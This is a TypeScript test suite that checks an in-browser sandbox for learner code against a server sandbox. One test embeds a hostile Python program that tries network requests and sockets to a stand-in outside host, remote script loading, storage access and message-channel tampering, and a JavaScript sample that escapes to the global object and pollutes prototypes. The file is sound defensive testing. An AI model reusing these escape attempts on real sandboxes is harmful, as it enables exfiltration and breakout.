import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, it } from 'node:test'
import { codeBody } from '@azora/contracts/assessment/question-types/code.ts'
import { runCode, runCodeTests } from '@azora/service-assessment/code/run-code.ts'
import { findSandbox } from '@azora/service-assessment/code/sandbox/find-sandbox.ts'
import type { Browser, Page } from 'playwright-core'
import { ownQuizzes } from '../../apps/azora/demo/own-quizzes.ts'
import { demoCourses } from '../../apps/azora/demo/pack-course.ts'
import { openBrowser, systemUrl, type Visit, visit } from './browser.ts'
import { type DeviceResult, deviceScript, runOn } from './on-device.ts'

/** Programs on the device: they come to what they come to on the server, and reach nothing, whatever they are. */

let browser: Browser
let here: Visit
let page: Page
const found = await findSandbox()
before(async () => {
  browser = await openBrowser()
  here = await visit(browser)
  page = here.page
  await page.goto('/courses')
  await page.evaluate(await deviceScript())
})
after(() => browser.close())

const share = { schoolId: 'demo', courseId: 'demo', learnerId: 'demo', purpose: 'practice' as const }
const bodyOf = (language: string, files: { path: string; content: string }[]) =>
  codeBody.parse({ language, files, tests: [] })

/** What a run came to, as far as a learner is told. */
const told = ({ outcome, error, difference, stdout }: Omit<DeviceResult, 'testId' | 'stderr'>) => ({
  outcome,
  place: error && `${error.path}:${error.line}`,
  difference,
  stdout,
})

it('the exercises of the demo come to the same on the device as on the server', {
  skip: found.sandbox?.languages.includes('python') ? false : 'No sandbox for Python on this machine.',
}, async () => {
  assert.ok(found.sandbox)
  const { run } = found.sandbox
  const folders = (await demoCourses()).map(({ folder }) => folder)
  const quizzes = (await Promise.all(folders.map(ownQuizzes))).flat()
  let compared = 0
  for (const question of quizzes.flatMap(({ quiz }) => quiz.questions ?? [])) {
    if (question.type !== 'code') continue
    const body = codeBody.parse(question.body)
    if (body.language !== 'python' || body.tests.some(({ unit }) => unit)) continue
    const own = { ...body, style: [] }
    // What learners begin with fails in few ways: a few are enough.
    for (const answer of compared < 6 ? [body.solution, []] : [body.solution]) {
      const verdicts = runCodeTests({ programs: { run } }, own, answer, {
        tests: body.tests,
        share,
        mostMs: 60_000,
      })
      const onServer = (await Array.fromAsync(verdicts)).map(told)
      let written = 0
      const files = body.files.map(({ path, content, locked, hidden }) => ({
        path,
        content: locked || hidden ? content : (answer[written++] ?? content),
      }))
      const onDevice = await runOn(page, { language: 'python', files, tests: body.tests })
      assert.deepEqual(onDevice.results.map(told), onServer, question.content)
      compared++
    }
  }
  assert.ok(compared >= 10, `${compared} programs were compared.`)
})

const samples: [language: 'python' | 'javascript', source: string, stdin?: string][] = [
  [
    'javascript',
    "const fs = require('fs')\nconst [a, b] = fs.readFileSync(0, 'utf8').split(' ').map(Number)\nconsole.log(a + b)",
    '3 4',
  ],
  [
    'javascript',
    "let text = ''\nprocess.stdin.on('data', piece => (text += piece))\nprocess.stdin.on('end', () => console.log(text.trim().length))",
    'four\n',
  ],
  [
    'javascript',
    "const lines = require('readline').createInterface({ input: process.stdin })\nlet sum = 0\nlines.on('line', line => (sum += Number(line)))\nlines.on('close', () => console.log(sum))",
    '1\n2\n3\n',
  ],
  [
    'javascript',
    "import { createInterface } from 'node:readline'\nfor await (const line of createInterface({ input: process.stdin })) console.log('> ' + line)",
    'a\nb\n',
  ],
  [
    'javascript',
    "console.log({ a: 1, list: [1, 2, 3], deep: { b: { c: { d: 1 } } } }, [], 'text', [1.5, 'x', null])\nconsole.log('%s is %d', 'x', 4, new Map([[1, 'one']]), new Set('ab'))",
  ],
  [
    'javascript',
    'class Point {\n  constructor() {\n    this.x = 1\n  }\n}\nconsole.log(new Point(), Point, () => 1, -0, 10n)',
  ],
  ['javascript', "console.log('before')\nfunction area(shape) {\n  return shape.size.width\n}\narea({})"],
  ['javascript', 'let a = 1\nlet b = = 2\n'],
  ['javascript', "console.log('one')\nprocess.exit(3)\nconsole.log('two')"],
  ['javascript', "setTimeout(() => console.log('later'), 5)\nconsole.log('now')"],
  ['javascript', "throw new Error('no')"],
  ['javascript', 'const list = []\nwhile (true) list.push({ at: list.length })'],
  ['javascript', "for (let at = 0; at < 6000; at++) console.log('again and again')"],
  ['python', 'name = input("Who? ")\nprint(f"Hello, {name}")', 'Ada\n'],
  ['python', 'import sys\nprint(len(sys.stdin.read()), sys.argv[1:])\nsys.exit(2)', 'abc'],
  ['python', 'def half(n):\n    return n / 0\n\nprint("begin")\nhalf(3)'],
  ['python', 'print(1)\nif True\n    print(2)'],
  ['python', 'print(input(), input())', 'one\n'],
  ['python', 'texts = []\nwhile True:\n    texts.append("x" * 1_000_000)'],
  ['python', 'while True: print("again and again")'],
  [
    'python',
    'import random, statistics, collections, json, re, datetime, math\nprint(statistics.mean([1, 2]), collections.Counter("aab"), json.dumps({"a": 1}), math.pi)',
  ],
  ['python', 'def down(n): return down(n + 1)\ndown(0)'],
]

it('samples of each outcome come to the same in both places', {
  skip: found.sandbox ? false : 'No sandbox on this machine.',
}, async () => {
  assert.ok(found.sandbox)
  const { run } = found.sandbox
  for (const [language, content, stdin = ''] of samples) {
    const files = [{ path: language === 'python' ? 'main.py' : 'main.js', content }]
    const input = { stdin, arguments: ['given'] }
    const ended = await runCode({ programs: { run } }, bodyOf(language, files), [content], { input, share })
    const onDevice = await runOn(page, { language, files, own: input })
    const [result] = onDevice.results
    assert.ok(result, `${content}: ${onDevice.needs}`)
    // How far an endless one comes is chance.
    const isEndless = /exceeded/.test(ended.outcome)
    const compared = (one: typeof ended | DeviceResult) =>
      isEndless
        ? one.outcome
        : told({ ...one, error: one.error ?? null, difference: null, stdout: one.stdout })
    assert.deepEqual(compared(result), compared(ended), content)
  }
})

it('several files belong to a program, and a loop that never ends is ended', async () => {
  const files = [
    { path: 'main.py', content: 'from part import double\nprint(double(4), open("data/town.txt").read())' },
    { path: 'part.py', content: 'def double(n): return n * 2' },
    { path: 'data/town.txt', content: 'Lusaka' },
  ]
  const own = { stdin: '', arguments: [] }
  const [several] = (await runOn(page, { language: 'python', files, own })).results
  assert.equal(several?.stdout, '8 Lusaka\n')
  for (const [language, path, content] of [
    ['python', 'main.py', 'print("first")\nwhile True: pass'],
    ['javascript', 'main.js', 'console.log("first")\nwhile (true) {}'],
  ] as const) {
    const given = { language, files: [{ path, content }], own, processorSeconds: 1 }
    const [endless] = (await runOn(page, given)).results
    assert.deepEqual([endless?.outcome, endless?.stdout], ['timed_out', 'first\n'])
  }
})

it('a program changes nothing for the test after it', async () => {
  const content =
    'import builtins, sys, math\nprint(math.pi, len("ab"), "left" in sys.modules)\nmath.pi = 3\nbuiltins.len = lambda text: 0\nsys.modules["left"] = math'
  const test = {
    stdin: '',
    arguments: [],
    expected: '3.141592653589793 2 False',
    comparison: 'lines',
    tolerance: 0,
  }
  const { results } = await runOn(page, {
    language: 'python',
    files: [{ path: 'main.py', content }],
    tests: [
      { ...test, id: 'a' },
      { ...test, id: 'b' },
    ],
  })
  assert.deepEqual(
    results.map(({ outcome, stdout }) => [outcome, stdout]),
    Array(2).fill(['right', '3.141592653589793 2 False\n']),
  )
})

it('what a program needs of the server is named', async () => {
  const needs = async (language: string, path: string, content: string) =>
    (await runOn(page, { language, files: [{ path, content }], own: { stdin: '', arguments: [] } })).needs
  assert.equal(
    await needs('javascript', 'main.js', "try { require('http') } catch {}\nconsole.log(1)"),
    'http',
  )
  assert.equal(await needs('javascript', 'main.js', 'console.log((1234).toLocaleString())'), 'toLocaleString')
  assert.equal(
    await needs('python', 'main.py', 'import threading\nthreading.Thread(target=print).start()'),
    'threading',
  )
})

/** Tries each by itself and prints what came of it; `js` is the whole of what the browser gives a worker. */
const hostilePython = (outside: string) => `
js = __import__('j' + 's')
def tried(name, call):
    try: print(name, call())
    except BaseException as failure: print(name, 'refused')
def asked():
    request = js.XMLHttpRequest.new()
    request.open('GET', '${outside}/by-request', False)
    request.send()
    return request.status
def opened():
    socket = js.WebSocket.new('${outside.replace('http', 'ws')}/by-socket')
    return 'begun'
print('origin', js.origin)
print('left', hasattr(js, 'left'))
js.left = 1
for name in ('document', 'parent', 'localStorage', 'window', 'cookieStore'): print(name, hasattr(js, name) and getattr(js, name) is not None)
tried('request', asked)
tried('socket', opened)
tried('script', lambda: js.importScripts('${outside}/by-script.js'))
tried('own script', lambda: js.importScripts('${systemUrl()}/programs/files.json'))
tried('worker', lambda: js.Worker.new('${systemUrl()}/sw.js') and 'made')
tried('databases', lambda: js.indexedDB.open('azora') and 'opened')
tried('eval', lambda: js.eval('1 + 1'))
js.postMessage(js.JSON.parse('{"ended": {"outcome": "finished"}}'))
channel = js.BroadcastChannel.new('azora')
channel.postMessage('hello')
js.MessagePort.prototype.postMessage = None
`

it('a hostile program reaches nothing of the site, sends nothing, and leaves the next one as it was', async t => {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('reached')
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  t.after(() => server.close())
  const outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const sent: string[] = []
  // What the policy refuses is a request to the browser's tools, and has no answer.
  page.on('response', response => sent.push(response.url()))
  await here.context.addCookies([{ name: 'secret', value: 'kept', url: systemUrl() }])
  await page.evaluate(() => {
    const heard: unknown[] = []
    Object.assign(globalThis, { heard })
    addEventListener('message', event => heard.push(event.data))
    new BroadcastChannel('azora').onmessage = event => heard.push(event.data)
  })
  const own = { stdin: '', arguments: [] }
  const run = (language: string, content: string) =>
    runOn(page, {
      language,
      files: [{ path: language === 'python' ? 'main.py' : 'main.js', content }],
      own,
      processorSeconds: 2,
    })
  // It also takes the way by which it would tell that it has ended.
  const silent = await run('python', hostilePython(outside))
  assert.equal(silent.results[0]?.outcome, 'timed_out', silent.results[0]?.stderr)
  const loud = await run('python', hostilePython(outside).replace(/\njs\.MessagePort.*\n/, '\n'))
  const lines = new Map(
    (loud.results[0]?.stdout ?? '').split('\n').map(line => line.split(/ (?=\S+$)/) as [string, string]),
  )
  assert.equal(lines.get('origin'), 'null', loud.results[0]?.stdout)
  for (const name of ['document', 'parent', 'localStorage', 'window', 'cookieStore', 'left'])
    assert.equal(lines.get(name), 'False', name)
  for (const name of ['request', 'script', 'own script', 'worker', 'databases', 'eval'])
    assert.equal(lines.get(name), 'refused', name)

  const script = await run(
    'javascript',
    `const all = (function () { return this })()
const made = (() => 0).constructor('return this')()
const names = ['document', 'parent', 'self', 'postMessage', 'indexedDB', 'XMLHttpRequest', 'importScripts']
console.log(names.filter(name => name in all || name in made).length)
Object.prototype.outcome = 'finished'
Array.prototype.push = () => 0
JSON.parse = () => ({})`,
  )
  assert.deepEqual([script.results[0]?.outcome, script.results[0]?.stdout], ['finished', '0\n'])
  const blob = await run('javascript', 'const list = []\nwhile (true) list.push(new Uint8Array(1e6).fill(1))')
  assert.match(blob.results[0]?.outcome ?? '', /memory_exceeded|failed/)

  // The loud one ended by itself: its worker ends all the same.
  const next = await run('python', 'js = __import__("j" + "s")\nprint(len("abc"), hasattr(js, "left"))')
  assert.deepEqual([next.results[0]?.outcome, next.results[0]?.stdout], ['finished', '3 False\n'])
  const nextScript = await run('javascript', 'const a = []\na.push(1)\nconsole.log(a.length)')
  assert.equal(nextScript.results[0]?.stdout, '1\n')
  assert.deepEqual(hits, [])
  assert.deepEqual(
    sent.filter(url => !url.startsWith('blob:') && !new URL(url).pathname.startsWith('/programs')),
    [],
  )
  assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard), [])
})

it('two runs at once wait for each other, and one that is stopped ends', async () => {
  const own = { stdin: '', arguments: [] }
  const run = (content: string) =>
    runOn(page, { language: 'javascript', files: [{ path: 'main.js', content }], own })
  const both = await Promise.all([run('console.log(1)'), run('console.log(2)')])
  assert.deepEqual(
    both.map(({ results }) => results[0]?.stdout),
    ['1\n', '2\n'],
  )
  const stopped = await page.evaluate(async () => {
    const { device } = globalThis as unknown as {
      device: { runOnDevice(program: object, told: object): Promise<unknown> }
    }
    const stop = new AbortController()
    const files = [{ path: 'main.js', content: 'console.log(1)\nwhile (true) {}' }]
    const program = { language: 'javascript', files, tests: [], own: { stdin: '', arguments: [] } }
    const running = device.runOnDevice(
      { ...program, processorSeconds: 10, memoryMiB: 128 },
      { signal: stop.signal, onEvent() {}, onLoaded() {} },
    )
    setTimeout(() => stop.abort(), 300)
    return running.then(
      () => 'ended',
      failure => (failure as Error).name,
    )
  })
  assert.equal(stopped, 'AbortError')
  const [after] = await Promise.all([run('console.log(3)')])
  assert.equal(after.results[0]?.stdout, '3\n')
})
